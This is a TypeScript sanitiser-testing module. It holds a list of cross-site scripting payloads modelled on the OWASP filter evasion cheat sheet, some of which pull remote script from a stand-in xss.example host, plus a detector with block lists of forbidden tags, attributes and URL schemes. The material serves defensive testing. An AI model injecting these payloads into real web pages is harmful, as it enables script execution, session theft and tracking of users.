/**
 * Cross-site scripting payloads in the manner of the OWASP XSS filter evasion cheat sheet, and a
 * check for what must never survive sanitising: scripts, event handlers, script URLs, embedded or
 * remote content, styles.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script type="module">import("https://xss.example/m.js")</script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  '<img srcset="https://tracker.example/a.png 1x">',
  '<picture><source srcset="https://tracker.example/p.webp"></picture>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="jav&#x0A;ascript:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">click</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="java\u0000script:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="//xss.example/">click</a>',
  '<a href="https://ok.example/" onmouseover="alert(1)">hover</a>',
  '<a href="https://ok.example/" title="&quot; onmouseover=alert(1) x=&quot;">quoted</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://xss.example/x.swf">',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<div style="width: expression(alert(1));">x</div>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<p style="background:url(https://tracker.example/bg.png)">styled</p>',
  '<style>@import "https://xss.example/x.css"; body { background: url("javascript:alert(1)") }</style>',
  '<link rel="stylesheet" href="https://xss.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://xss.example/">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input type="image" src="https://tracker.example/i.png">',
  '<video poster="https://tracker.example/v.png"><source src="x" onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<table background="javascript:alert(1)"><td>cell</td></table>',
  '<div onclick="alert(1)" ONMOUSEOVER="alert(2)">x</div>',
  "<BODY ONLOAD=alert('XSS')>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '"><script>alert(1)</script>',
  "'';!--\"<XSS>=&{()}",
];

const FORBIDDEN_TAGS = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'img',
  'image',
  'picture',
  'source',
  'video',
  'audio',
  'svg',
  'math',
  'style',
  'link',
  'meta',
  'base',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'body',
  'html',
  'head',
  'noscript',
  'template',
  'xss',
  'xml',
  'portal',
]);
// Attributes that load or run something whatever their value.
const FORBIDDEN_ATTRIBUTES = new Set(['style', 'src', 'srcset', 'srcdoc', 'background', 'poster', 'data', 'formaction', 'action', 'dynsrc', 'lowsrc', 'xlink:href']);
const URL_ATTRIBUTES = new Set(['href', 'cite']);
const SAFE_SCHEMES = new Set(['http', 'https', 'mailto']);

/** A link to the web or to a mailbox, or relative to the page; not another host's scheme-relative URL. */
function isSafeUrl(value: string): boolean {
  // Browsers ignore white space and control characters inside a scheme.
  // eslint-disable-next-line no-control-regex -- it removes them as a browser skips them
  const url = value.replace(/[\u0000-\u0020\u007f]/g, '');
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1];
  return scheme ? SAFE_SCHEMES.has(scheme.toLowerCase()) : !url.startsWith('//') && !url.startsWith('\\\\');
}

/** What a browser makes of an attribute value: character references decoded, once. */
function decodeAttribute(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_match, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_match, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&quot;/gi, '"')
    .replace(/&lt;/gi, '<')
    .replace(/&gt;/gi, '>')
    .replace(/&amp;/gi, '&');
}

/**
 * The active content in an HTML fragment, as a list of findings (empty when there is none): a
 * forbidden tag, an event handler, an attribute that loads something, or a link whose scheme is not
 * http, https or mailto. Quoted and unquoted attributes are read, so raw payloads are judged too.
 */
export function activeContentIn(html: string): string[] {
  const findings: string[] = [];
  for (const [, name, rest] of html.matchAll(/<\s*([a-zA-Z][^\s/<>]*)([^<>]*)>?/g)) {
    const tag = name!.toLowerCase();
    if (FORBIDDEN_TAGS.has(tag)) findings.push(`<${tag}>`);
    for (const [, attributeName, rawValue = ''] of rest!.matchAll(/([^\s"'=/>]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      const attribute = attributeName!.toLowerCase();
      const value = decodeAttribute(rawValue.replace(/^["']|["']$/g, ''));
      if (attribute.startsWith('on')) findings.push(`${tag} ${attribute}=`);
      else if (FORBIDDEN_ATTRIBUTES.has(attribute)) findings.push(`${tag} ${attribute}=`);
      else if (URL_ATTRIBUTES.has(attribute) && !isSafeUrl(value)) findings.push(`${tag} ${attribute}=${value}`);
    }
  }
  return findings;
}
